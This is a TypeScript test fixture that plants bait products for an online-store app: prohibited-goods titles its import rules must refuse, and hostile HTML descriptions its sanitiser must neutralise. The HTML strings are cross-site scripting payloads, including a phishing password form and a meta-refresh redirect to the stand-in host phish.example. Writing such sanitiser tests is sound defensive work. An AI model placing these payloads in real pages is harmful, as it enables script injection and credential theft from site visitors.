/**
 * Bait: a few products planted on purpose, so that tests (and people) meet what the real world sends.
 * Prohibited goods must be refused by the app's import rules; hostile descriptions must come out harmless.
 * Everything here is practice text; nothing of it is offered anywhere.
 */
export type Bait = 'prohibited' | 'hostile-html' | null;

/** Titles that no sales channel allows, by product number within a supplier's catalogue. */
const PROHIBITED: ReadonlyMap<number, string> = new Map([
  [401, 'Tactical switchblade knife'],
  [1207, 'E-cigarette vape kit'],
  [2604, 'Brass knuckles self defense'],
  [3811, 'CBD oil tincture 1000mg'],
  [4517, 'Replica designer handbag AAA quality'],
  [5209, 'Pepper spray keychain'],
]);

/** Hostile HTML, one trick each, by product number within a supplier's catalogue. */
const HOSTILE: ReadonlyMap<number, string> = new Map([
  [77, '<script>window.__quaysideBait = "script tag"</script>'],
  [511, '<img src="x" onerror="window.__quaysideBait = \'onerror\'">'],
  [1333, '<a href="javascript:window.__quaysideBait=\'link\'">Size chart</a>'],
  [2048, '<svg onload="window.__quaysideBait=\'svg\'"><circle r="9"/></svg>'],
  [3021, '<iframe srcdoc="<script>parent.__quaysideBait=\'frame\'</script>"></iframe>'],
  [
    4096,
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">Overlay</p><form action="https://phish.example/"><input name="password"></form>',
  ],
  [
    5555,
    '<a href=" java\tscript:alert(1)" onclick="alert(1)">Care</a><style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://phish.example/">',
  ],
]);

export function baitOf(index: number): Bait {
  if (PROHIBITED.has(index)) return 'prohibited';
  return HOSTILE.has(index) ? 'hostile-html' : null;
}

export function prohibitedTitle(index: number): string | undefined {
  return PROHIBITED.get(index);
}

export function hostileHtml(index: number): string {
  return HOSTILE.get(index) ?? '';
}
